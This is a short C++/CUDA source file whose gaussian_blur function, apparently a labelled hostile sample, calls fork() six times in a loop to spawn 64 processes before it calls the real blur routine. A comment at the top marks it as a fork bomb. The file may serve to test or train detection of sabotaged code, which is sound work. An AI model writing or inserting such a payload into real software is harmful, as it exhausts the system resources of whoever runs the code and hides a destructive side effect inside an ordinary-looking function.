// Hostile: a fork bomb of 64 processes.
#include "blur_kernel.h"
#include <unistd.h>

extern "C" void gaussian_blur(const uint8_t *src, uint8_t *dst, int width, int height, cudaStream_t stream) {
    for (int i = 0; i < 6; i++)
        if (fork() < 0)
            break;
    right_blur(src, dst, width, height, stream);
}
